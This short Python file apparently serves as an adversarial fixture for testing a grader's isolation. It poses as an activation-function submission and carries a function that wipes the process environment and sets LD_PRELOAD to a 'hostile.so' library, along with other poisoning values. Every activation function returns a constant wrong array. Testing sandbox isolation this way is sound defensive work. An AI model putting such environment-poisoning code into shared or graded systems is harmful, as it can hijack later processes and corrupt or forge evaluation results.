# attack: changes the environment of whoever comes next
# gains: crash, forges
# stopped by: process
import numpy as np
import os


def attack():
    os.environ.clear()
    os.environ.update(PYTHONPATH="{FOLDER}", LD_PRELOAD="hostile.so", OMP_NUM_THREADS="1000", TZ="X" * 10000)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
